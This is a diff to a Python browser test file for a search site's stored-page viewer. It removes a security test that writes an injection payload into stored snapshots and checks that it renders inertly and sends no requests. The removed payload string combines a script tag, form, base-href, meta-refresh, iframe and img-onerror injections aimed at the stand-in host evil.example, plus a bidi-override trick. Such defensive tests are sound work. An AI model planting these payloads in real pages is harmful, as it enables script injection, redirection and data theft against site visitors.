@@ -6,7 +6,6 @@ from typing import Any
 
 import pytest
 
-from app.core import db
 from tests import builders
 from tests.browser.checking import layout, violations
 from tests.browser.clicks import Clicks
@@ -14,15 +13,6 @@ from tests.browser.seeds.searches import QUESTION
 from tests.browser.site import Site
 from tests.browser.waiting import is_in_view, until
 from tests.patience import PATIENCE_SECONDS
-
-HOSTILE = (
-    '</pre></article><script>document.title="owned"; fetch("https://evil.example/")</script>'
-    '<form action="https://evil.example/"><button autofocus>Go</button></form><base href="//evil">'
-    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
-    '<iframe src="https://evil.example/"></iframe>'
-    '<img src="https://evil.example/x.png" onerror="fetch(1)">\u202edesrever\u2066'
-)
-DEFACE = "update snapshots set text = %(hostile)s || text || repeat(%(filling)s, 40000)"
 
 
 @pytest.fixture(scope="module", autouse=True)
@@ -162,21 +152,3 @@ def test_a_citation_that_cannot_be_put_in_is_opened_as_a_page(visit: Any, site: 
     page.locator("#cite-2").click()
     page.wait_for_url("**?cite=2#panel")
     page.locator("[data-panel]").get_by_text("2 of 2").wait_for()
-
-
-def test_a_hostile_page_does_nothing_and_sends_nothing(visit: Any, site: Site) -> None:
-    answered = f"/searches/{site.ids['disputed']}"
-    with db.transaction() as tx:
-        tx.execute(
-            DEFACE, {"hostile": HOSTILE, "filling": "\n\nAll about barns and <b>their</b> owls."}
-        )
-    page = visit(f"{answered}?cite=1")
-    stored = page.locator("#open-stored").get_attribute("href")
-    page.frame_locator("iframe.stored").locator("text=evil.example").first.wait_for()
-    alone = visit(f"{stored.split('#')[0]}&all=1")
-    assert "<script>document.title" in alone.locator("article").inner_text()
-    assert alone.title().startswith("Stored page")
-    for opened in (page, alone):
-        assert opened.noted.foreign == []
-        assert opened.noted.errors == []
-        assert [frame.url for frame in opened.frames if "evil" in frame.url] == []
